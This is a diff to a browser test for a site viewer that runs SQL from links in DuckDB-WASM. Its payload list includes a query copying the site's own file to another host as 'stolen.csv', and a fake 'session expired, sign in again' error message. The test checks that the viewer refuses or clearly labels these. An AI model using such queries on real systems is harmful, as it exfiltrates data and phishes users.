@@ -183,6 +183,8 @@ def test_linked_sql_waits_for_a_click_and_reaches_no_other_host(crafted_site: An
         f"SELECT * FROM read_parquet('{other}/x.parquet')",
         # the site's own file, sent out: refused at the read
         f"COPY (SELECT content FROM read_text('{own_file}')) TO '{other}/stolen.csv'",
+        # a message the link's author makes DuckDB say: shown as the query's, not under the atlas's name
+        "SELECT error('Your session has expired: sign in again at the address in this message')",
     ]
     context, page, requests, errors = _recording_page(browser)
     try:
@@ -209,14 +211,22 @@ def test_linked_sql_waits_for_a_click_and_reaches_no_other_host(crafted_site: An
             assert listener.requests == [], sql
             holder.locator(".atlas-viewer-run").click()
             state = _sql_settled(page, holder)
-            outcomes[sql] = (state, holder.locator(".atlas-viewer-sqlstatus").text_content())
-        # every payload refused, with DuckDB's reason; INSTALL alone may report success (DuckDB-WASM
-        # fetches an extension when it is loaded, not installed), but LOAD and the JSON query after it fail
-        for sql, (state, status) in outcomes.items():
-            assert state == "error" or sql == "INSTALL json", (sql, status)
-        assert "disabled" in outcomes["LOAD json"][1].lower(), outcomes["LOAD json"]
+            shown = holder.locator(".atlas-viewer-sqlerror")
+            error = shown.text_content() if shown.is_visible() else ""
+            outcomes[sql] = (state, holder.locator(".atlas-viewer-sqlstatus").text_content(), error)
+        # every payload refused: INSTALL and LOAD before DuckDB answers (DuckDB-WASM says "Success" to
+        # INSTALL), the others with DuckDB's reason, shown apart as the linked query's own error
+        for sql, (state, status, _error) in outcomes.items():
+            assert state == "error", (sql, status)
+        for sql in ("INSTALL json", "LOAD json"):
+            state, status, error = outcomes[sql]
+            assert status.startswith("Not run: the query has") and "no extension" in status and error == "", status
         assert "no extension" in outcomes[payloads[7]][1], outcomes[payloads[7]]
-        assert "disabled" in outcomes[payloads[0]][1].lower(), outcomes[payloads[0]]
+        assert "INSTALL json" not in outcomes[payloads[7]][2], outcomes[payloads[7]]
+        assert "disabled" in outcomes[payloads[0]][2].lower(), outcomes[payloads[0]]
+        state, status, error = outcomes[payloads[-1]]
+        assert "session has expired" in error and "session" not in status, (status, error)
+        assert "came with the link" in status
         # typed: the same site's file read directly, the settings turned back on
         holder = page.locator(".atlas-viewer")
         state, status = _run_typed(page, holder, f"SELECT content FROM read_text('{own_file}')")
